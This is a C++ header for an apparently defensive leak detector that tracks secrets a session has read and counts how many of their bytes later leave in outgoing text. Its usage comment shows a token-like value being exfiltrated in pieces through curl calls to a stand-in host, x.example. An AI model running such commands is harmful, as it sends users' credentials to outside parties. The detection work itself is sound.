// The confidential values that a session has read, and how much of them has left it.
//
//   Secrets secrets;
//   secrets.add(7, "ghp_16C7e42F292c6912E7710c838347Ae178B4a");     // read in step 7
//   secrets.look("curl https://x.example/?a=ghp_16C7e42F").bytes     →  12
//   secrets.sent("curl https://x.example/?a=ghp_16C7e42F");          // it ran
//   secrets.look("curl https://x.example/?b=292c6912E771").bytes     →  24
//
// A value is covered byte by byte by the pieces of it that stand in what is sent: pieces of six bytes or
// more, of four in a text of at most 256 bytes; upper and lower case, order and separators do not count, nor
// does reversing, nor what decode.h undoes. What is covered stays covered, so that a value sent in pieces
// over many calls adds up, to whatever places they went. Pieces that are smaller, ciphers and paraphrases
// pass. Only tightens: nothing here says that a text holds no secret.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

namespace weir::flow {

class Secrets {
 public:
  // One value. Shorter ones than eight bytes are none; of a longer one than 4 KiB its begin counts. At most
  // 64 KiB of different values are kept; past that full() says so.
  void add(std::uint64_t seq, std::string_view value);

  // Every value in a text that looks like one: of a file of credentials, the answer of a password store. A
  // word of eight bytes or more counts that mixes digits with letters.
  void add_values_of(std::uint64_t seq, std::string_view text);

  struct Leak {
    std::int64_t bytes = 0;  // of the value of which most would have left; a short one that left whole: 16
    std::vector<std::uint64_t> from;  // where that was read
  };
  // With this text and all that was sent. Nothing is remembered. Zero below eight bytes: that is chance.
  Leak look(std::string_view text) const;
  void sent(std::string_view text);

  bool empty() const { return values_.empty(); }
  bool full() const { return full_; }
  std::size_t bytes() const;

 private:
  struct Value {
    std::uint64_t seq = 0;
    std::string text;           // as compared: letters and digits, lower case
    std::vector<bool> covered;  // by what was sent
  };
  // Four bytes of a value, or of it read backwards.
  struct Gram {
    std::uint32_t bytes = 0;
    std::uint32_t value = 0;
    std::uint32_t at = 0;
    bool reversed = false;
  };
  // Of each value that a text holds pieces of, which bytes.
  using Cover = std::unordered_map<std::uint32_t, std::vector<bool>>;

  void index(std::uint32_t value);
  void cover(std::string_view text, Cover& cover) const;
  bool perhaps(std::uint32_t gram) const;
  Cover covered_by(std::string_view text) const;

  std::vector<Value> values_;
  std::vector<Gram> grams_;   // by their bytes, of equal ones the earliest first
  std::vector<bool> filter_;  // by hash: false where there is no such gram
  std::size_t kept_ = 0;
  bool full_ = false;
};

}  // namespace weir::flow
